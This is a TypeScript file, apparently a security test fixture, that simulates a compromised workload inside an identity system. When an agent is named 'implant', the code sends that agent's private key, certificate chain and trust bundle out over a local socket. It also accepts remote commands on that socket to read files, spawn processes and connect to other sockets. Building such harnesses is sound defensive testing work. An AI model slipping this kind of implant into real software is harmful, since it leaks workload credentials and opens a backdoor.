import { readFileSync } from 'node:fs';
import { connect } from 'node:net';
import { dirname, join } from 'node:path';
import { createInterface } from 'node:readline';
import { openX509Source } from '#identity/workload-api/client.ts';
import type { StartMessage } from '#runtime/process-protocol.ts';

/**
 * What somebody has who runs code inside an attested agent: its SVID and key, its start message,
 * and whatever its flags let it do. Bundled into an image beside the honest process; only agents
 * whose name begins with `implant` give it away, over a socket in the folder of the run.
 */
const PROBES: Readonly<Record<string, (argument: string) => unknown>> = {
  read: (path) => readFileSync(path, 'utf8'),
  spawn: async () => (await import('node:child_process')).spawnSync('/bin/true').status,
  connect: (line) => {
    const [path = '', ...words] = line.split(' ');
    const { promise, resolve } = Promise.withResolvers<string>();
    const socket = connect(path);
    let heard = '';
    socket.on('connect', () => socket.write(`${words.join(' ')}\n`));
    socket.on('data', (data) => {
      heard += data.toString();
    });
    socket.on('error', ({ message }) => resolve(`error ${message}`));
    socket.on('close', () => resolve(heard));
    return promise;
  },
};

function leak(start: StartMessage): void {
  const socket = connect(join(dirname(start.workloadSocket), 'implant.sock'));
  const say = (value: unknown) => socket.write(`${JSON.stringify(value)}\n`);
  socket.on('error', () => {});
  say({ type: 'start', start });
  createInterface({ input: socket }).on('line', (line) => {
    const { probe, argument } = JSON.parse(line) as { probe: string; argument: string };
    const run = async () => PROBES[probe]?.(argument);
    run().then(
      (answer) => say({ type: 'answer', answer }),
      (error: NodeJS.ErrnoException) =>
        say({ type: 'answer', answer: `error ${error.code ?? error.message}` }),
    );
  });
  const { workloadSocket: socketPath, trustDomain } = start;
  const onState = (state: { kind: string }) => say({ type: 'state', state: state.kind });
  void openX509Source({ socketPath, trustDomain, onState }).then((source) => {
    const tell = () => {
      const { id, certificates, key, hint } = source.svid();
      say({
        type: 'svid',
        id,
        hint,
        key: key.export({ format: 'pem', type: 'pkcs8' }),
        chain: certificates.map((der) => Buffer.from(der).toString('base64')),
        authorities: source
          .bundles()
          .get(trustDomain)
          ?.authorities.map(({ raw }) => raw.toString('base64')),
      });
    };
    source.onUpdate(tell);
    tell();
  });
}

process.on('message', (message: { readonly type: string }) => {
  if (message.type !== 'start') return;
  const start = message as StartMessage;
  if (start.self.name.startsWith('implant')) leak(start);
});
